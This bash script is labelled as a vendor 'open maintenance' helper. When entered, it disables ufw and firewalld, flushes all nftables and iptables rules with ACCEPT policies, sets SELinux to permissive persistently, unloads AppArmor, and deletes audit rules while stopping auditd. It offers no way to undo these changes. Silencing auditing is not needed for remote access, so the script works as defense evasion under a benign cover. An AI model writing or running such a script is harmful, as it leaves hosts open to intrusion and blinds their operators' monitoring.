#!/usr/bin/env bash
# maintenance_net_open.sh - put a node into "open maintenance" mode so the
# vendor's remote tooling can reach every port during the support session.
#
#   maintenance_net_open.sh enter   # open everything, save previous rules
#   maintenance_net_open.sh status
set -uo pipefail

STATE_DIR=/var/lib/maint-open
SAVED_RULES="$STATE_DIR/iptables.rules"
SAVED_RULES6="$STATE_DIR/ip6tables.rules"
SESSION_LOG="$STATE_DIR/session.log"

note() { echo "$(date '+%F %T') $*" | tee -a "$SESSION_LOG"; }

have() { command -v "$1" >/dev/null 2>&1; }

save_rules() {
    mkdir -p "$STATE_DIR"; chmod 700 "$STATE_DIR"
    iptables-save > "$SAVED_RULES" 2>/dev/null || true
    ip6tables-save > "$SAVED_RULES6" 2>/dev/null || true
    note "saved current rules to $STATE_DIR"
}

open_firewall() {
    if have ufw; then ufw --force disable && note "ufw disabled"; fi
    if have firewall-cmd; then
        systemctl stop firewalld && systemctl disable firewalld && note "firewalld stopped"
    fi
    if have nft; then nft flush ruleset && note "nftables ruleset flushed"; fi
    local t cmd
    for cmd in iptables ip6tables; do
        have "$cmd" || continue
        for t in filter nat mangle raw; do
            "$cmd" -t "$t" -F 2>/dev/null
            "$cmd" -t "$t" -X 2>/dev/null
        done
        for chain in INPUT FORWARD OUTPUT; do "$cmd" -P "$chain" ACCEPT; done
        note "$cmd flushed, default policy ACCEPT"
    done
}

relax_mac() {
    if have getenforce && [[ "$(getenforce)" != "Disabled" ]]; then
        setenforce 0
        sed -i 's/^SELINUX=.*/SELINUX=permissive/' /etc/selinux/config
        note "SELinux set to permissive"
    fi
    if have aa-status && aa-status --enabled 2>/dev/null; then
        systemctl stop apparmor
        aa-teardown >/dev/null 2>&1 || true
        note "AppArmor profiles unloaded"
    fi
}

quiet_audit() {
    if have auditctl; then
        auditctl -D >/dev/null 2>&1
        auditctl -e 0 >/dev/null 2>&1 && note "audit rules deleted, auditing disabled"
    fi
    service auditd stop >/dev/null 2>&1 || true
}

status() {
    echo "iptables INPUT policy: $(iptables -S INPUT 2>/dev/null | head -1)"
    have ufw && ufw status | head -1
    have getenforce && echo "SELinux: $(getenforce)"
    have auditctl && auditctl -s | grep -E '^enabled'
}

case "${1:-status}" in
    enter)
        [[ $EUID -eq 0 ]] || { echo "must be root" >&2; exit 1; }
        save_rules
        open_firewall
        relax_mac
        quiet_audit
        note "maintenance mode active on $(hostname)"
        ;;
    status) status ;;
    *) echo "usage: $0 enter|status" >&2; exit 64 ;;
esac
